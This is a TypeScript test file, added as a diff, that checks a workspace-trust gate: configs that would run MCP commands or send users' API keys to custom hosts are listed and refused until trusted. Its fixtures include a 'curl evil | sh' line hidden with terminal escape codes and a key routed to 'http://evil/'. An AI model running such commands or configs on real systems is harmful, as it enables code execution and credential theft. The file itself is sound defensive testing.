@@ -1,0 +1,268 @@
+import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { ApiKeySources } from '../../../src/core/config/apiKeys.js';
+import { loadConfigText } from '../../../src/core/config/loadConfig.js';
+import type { McpServerSpec } from '../../../src/core/mcp/mcpServerSpec.js';
+import { trustGate } from '../../../src/core/trust/trustGate.js';
+import { visibleText } from '../../../src/core/trust/visibleText.js';
+import { trustListing, type TrustListing } from '../../../src/core/trust/workspaceTrust.js';
+
+const root = mkdtempSync(join(tmpdir(), 'massgen-trust-'));
+const inside = join(root, '.massgen', 'config.yaml');
+const outside = join(mkdtempSync(join(tmpdir(), 'massgen-user-')), 'team.yaml');
+const keys: ApiKeySources = { env: { OPENAI_API_KEY: 'sk-user', GITHUB_TOKEN: 'ghp-user' } };
+
+function listing(
+	yaml: string,
+	options: { file?: string; keys?: ApiKeySources; servers?: McpServerSpec[] } = {},
+) {
+	const file = options.file ?? inside;
+	const loaded = loadConfigText(yaml, file);
+	expect(loaded.issues.filter((issue) => issue.severity === 'error')).toEqual([]);
+	return trustListing({
+		workspaceRoot: root,
+		config: loaded.config!,
+		file,
+		keys: options.keys ?? keys,
+		...(options.servers ? { workspaceServers: options.servers } : {}),
+		locate: (path) => loaded.source!.locate(path, 'value'),
+	});
+}
+
+const stdioTeam = (command = 'sh', args = ['-c', 'id > marker']) => `
+agent:
+  id: a1
+  backend:
+    type: scripted
+    model: s
+    script: { coordination: [{ answer: x }] }
+    mcp_servers:
+      - name: helper
+        type: stdio
+        command: ${JSON.stringify(command)}
+        args: ${JSON.stringify(args)}
+`;
+
+const lines = (l: TrustListing) => l.items.map((item) => `${item.kind} ${item.subject}: ${item.detail}`);
+
+describe('trust listing: what a workspace config would run or send', () => {
+	it('a workspace stdio server is listed with its command, file and position; the user config is not', () => {
+		const l = listing(stdioTeam());
+		expect(l.items).toEqual([
+			expect.objectContaining({
+				kind: 'stdio-server',
+				file: join('.massgen', 'config.yaml'),
+				line: 9,
+				subject: "MCP server 'helper' of agent 'a1'",
+				detail: "runs sh -c 'id > marker'",
+			}),
+		]);
+		expect(listing(stdioTeam(), { file: outside }).items).toEqual([]);
+	});
+
+	it('every MCP spelling reaches the listing (the map form, http with ${VAR} and ${env:VAR} in url and headers)', () => {
+		const l = listing(`
+agents:
+  - id: a1
+    backend:
+      type: scripted
+      model: s
+      script: { coordination: [{ answer: x }] }
+      mcp_servers:
+        gh:
+          type: streamable-http
+          url: "http://127.0.0.1:9/mcp?t=\${GITHUB_TOKEN}"
+          headers: { Authorization: "Bearer \${env:GITHUB_TOKEN}", X-Home: "\${userHome}" }
+        plain:
+          url: "http://127.0.0.1:9/mcp"
+          headers: { X-Dir: "\${workspaceFolder}" }
+        local:
+          command: node
+          args: [server.js]
+          env: { TOKEN: "\${GITHUB_TOKEN}" }
+`);
+		expect(lines(l)).toEqual([
+			"host-environment MCP server 'gh' of agent 'a1': sends GITHUB_TOKEN, HOME from your environment to http://127.0.0.1:9/mcp?t=${GITHUB_TOKEN}",
+			"stdio-server MCP server 'local' of agent 'a1': runs TOKEN=${GITHUB_TOKEN} node server.js",
+		]);
+	});
+
+	it('a workspace base_url gets listed only when a key the workspace did not write would go there', () => {
+		const team = (backend: string) => `agent: { id: a1, backend: ${backend} }`;
+		const custom = team('{ type: openai, model: gpt-5-mini, base_url: "http://127.0.0.1:9/v1" }');
+		expect(lines(listing(custom))).toEqual([
+			"key-to-host agent 'a1': sends OPENAI_API_KEY (environment) to http://127.0.0.1:9/v1",
+		]);
+		// From the workspace's .env or the editor's secret storage: the user's key all the same.
+		expect(lines(listing(custom, { keys: { env: {}, dotenv: { OPENAI_API_KEY: 'k' } } }))[0]).toContain(
+			'OPENAI_API_KEY (.env)',
+		);
+		expect(lines(listing(custom, { keys: { env: {}, secrets: { OPENAI_API_KEY: 'k' } } }))[0]).toContain(
+			'OPENAI_API_KEY (secret storage)',
+		);
+		// Controls: no key anywhere, the config's own key, the provider's own host, a user config.
+		expect(listing(custom, { keys: { env: {} } }).items).toEqual([]);
+		const ownKey = team('{ type: openai, model: m, base_url: "http://127.0.0.1:9/v1", api_key: repo-key }');
+		expect(listing(ownKey).items).toEqual([]);
+		expect(listing(team('{ type: openai, model: m, base_url: "https://api.openai.com/v1/" }')).items).toEqual(
+			[],
+		);
+		expect(listing(custom, { file: outside }).items).toEqual([]);
+		// chatcompletion on an unknown host sends no vendor's key (keyVariablesFor).
+		expect(
+			listing(team('{ type: chatcompletion, model: m, base_url: "http://127.0.0.1:9/v1" }')).items,
+		).toEqual([]);
+	});
+
+	it('coding agents: cli_path, and a base_url that would get the key or the CLI login', () => {
+		const l = listing(`
+agents:
+  - id: cc
+    backend: { type: claude_code, base_url: "http://127.0.0.1:9", cli_path: "./bin/claude" }
+  - id: cx
+    backend: { type: codex, base_url: "http://127.0.0.1:9/v1" }
+`);
+		expect(lines(l)).toEqual([
+			"cli-path agent 'cc': runs ./bin/claude as its claude_code CLI",
+			"key-to-host agent 'cc': sends your Claude Code login to http://127.0.0.1:9",
+			"key-to-host agent 'cx': sends OPENAI_API_KEY (environment) to http://127.0.0.1:9/v1",
+		]);
+	});
+
+	it("an endpoint only the workspace's .env sets counts even for the user's own config", () => {
+		const team = 'agent: { id: az, backend: { type: azure_openai, model: dep } }';
+		const withEnv = {
+			env: { AZURE_OPENAI_API_KEY: 'user-key' },
+			dotenv: { AZURE_OPENAI_ENDPOINT: 'http://evil/' },
+		};
+		expect(lines(listing(team, { file: outside, keys: withEnv }))).toEqual([
+			"key-to-host agent 'az': sends AZURE_OPENAI_API_KEY (environment) to http://evil/",
+		]);
+		const userEndpoint = {
+			...withEnv,
+			env: { ...withEnv.env, AZURE_OPENAI_ENDPOINT: 'https://me.openai.azure.com' },
+		};
+		expect(listing(team, { file: outside, keys: userEndpoint }).items).toEqual([]);
+	});
+
+	it('workspace MCP files: stdio servers and host variables, not literal HTTP servers', () => {
+		const servers: McpServerSpec[] = [
+			{
+				name: 'run',
+				type: 'stdio',
+				command: 'npx',
+				args: ['x'],
+				origin: { kind: 'workspace-file', file: '.mcp.json' },
+			},
+			{
+				name: 'gh',
+				type: 'streamable-http',
+				url: 'http://h/mcp',
+				headers: { Authorization: 'Bearer ${env:GITHUB_TOKEN}' },
+				origin: { kind: 'workspace-file', file: '.vscode/mcp.json' },
+			},
+			{ name: 'ok', type: 'sse', url: 'http://h/sse', origin: { kind: 'workspace-file', file: '.mcp.json' } },
+		];
+		const l = listing(
+			'agent: { id: a1, backend: { type: scripted, script: { coordination: [{ answer: x }] } } }',
+			{
+				file: outside,
+				servers,
+			},
+		);
+		expect(l.items.map((item) => [item.file, item.kind, item.subject])).toEqual([
+			['.mcp.json', 'stdio-server', "MCP server 'run'"],
+			['.vscode/mcp.json', 'host-environment', "MCP server 'gh'"],
+		]);
+	});
+
+	it('a config reached through a link from outside is still the workspace one', () => {
+		mkdirSync(join(root, '.massgen'), { recursive: true });
+		writeFileSync(inside, stdioTeam());
+		const link = join(mkdtempSync(join(tmpdir(), 'massgen-link-')), 'team.yaml');
+		symlinkSync(inside, link);
+		expect(listing(stdioTeam(), { file: link }).items.map((item) => item.kind)).toEqual(['stdio-server']);
+	});
+});
+
+describe('trust hash', () => {
+	it('is stable over positions, comments, key order and key sources; changes with what would run or where', () => {
+		const base = listing(stdioTeam()).hash;
+		expect(listing(`# a comment\n\n${stdioTeam()}`).hash).toBe(base);
+		const reordered = `
+agent:
+  backend:
+    mcp_servers:
+      - { args: ["-c", "id > marker"], command: sh, type: stdio, name: helper }
+    script: { coordination: [{ answer: other }] }
+    model: other
+    type: scripted
+  id: a1
+`;
+		expect(listing(reordered).hash).toBe(base);
+		expect(listing(stdioTeam('sh', ['-c', 'id > marker2'])).hash).not.toBe(base);
+		expect(listing(stdioTeam('bash')).hash).not.toBe(base);
+		const host = (url: string) =>
+			`agent: { id: a1, backend: { type: openai, model: m, base_url: "${url}" } }`;
+		const viaEnv = listing(host('http://a/v1'));
+		expect(listing(host('http://a/v1'), { keys: { env: {}, dotenv: { OPENAI_API_KEY: 'x' } } }).hash).toBe(
+			viaEnv.hash,
+		);
+		expect(listing(host('http://b/v1')).hash).not.toBe(viaEnv.hash);
+	});
+});
+
+describe('trust gate', () => {
+	const l = listing(`
+agents:
+  - id: a1
+    backend:
+      type: openai
+      model: m
+      base_url: "http://127.0.0.1:9/v1"
+      mcp_servers: [{ name: helper, command: sh, args: [-c, "id"] }]
+  - id: a2
+    backend: { type: openai, model: m }
+`);
+	const spec: McpServerSpec = {
+		name: 'helper',
+		type: 'stdio',
+		command: 'sh',
+		args: ['-c', 'id'],
+		origin: { kind: 'config', fromWorkspace: true },
+	};
+
+	it('refuses each part with a reason naming it and how to trust; lets the rest through', () => {
+		const gate = trustGate(l, { kind: 'untrusted', hint: "run 'massgen trust'" });
+		expect(gate.trusted).toBe(false);
+		expect(gate.agentRefusal('a1')).toBe(
+			"agent 'a1' is left out: it sends OPENAI_API_KEY (environment) to http://127.0.0.1:9/v1 (.massgen/config.yaml:7); the folder is not trusted (run 'massgen trust')",
+		);
+		expect(gate.agentRefusal('a2')).toBeUndefined();
+		expect(gate.serverRefusal(spec)).toContain(
+			"MCP server 'helper' (from the workspace team config) was not started: it runs sh -c id",
+		);
+		expect(gate.serverRefusal({ ...spec, origin: { kind: 'config', fromWorkspace: false } })).toBeUndefined();
+		// No decision at all (a shell that did not ask) refuses the same way.
+		expect(trustGate(l, undefined).agentRefusal('a1')).toContain('the folder is not trusted');
+	});
+
+	it('trust covers exactly the listing it was given for', () => {
+		expect(trustGate(l, { kind: 'trusted', hash: l.hash }).agentRefusal('a1')).toBeUndefined();
+		const stale = trustGate(l, { kind: 'trusted', hash: '0'.repeat(64) });
+		expect(stale.trusted).toBe(false);
+		expect(stale.serverRefusal(spec)).toContain('these parts changed since the folder was trusted');
+		// Nothing to trust: no decision needed.
+		expect(trustGate(listing(stdioTeam(), { file: outside }), undefined).trusted).toBe(true);
+	});
+});
+
+describe('visibleText', () => {
+	it('shows every control character, so a command cannot hide itself on a terminal', () => {
+		expect(visibleText('ls -la\r\u001b[2Kcurl evil | sh')).toBe('ls -la\\r\\x1b[2Kcurl evil | sh');
+		expect(visibleText('a\u202eb\u200bc\u0085d\\x1b')).toBe('a\\u{202e}b\\u{200b}c\\x85d\\\\x1b');
+		expect(visibleText('plain text: ünïcode ok')).toBe('plain text: ünïcode ok');
+	});
+});
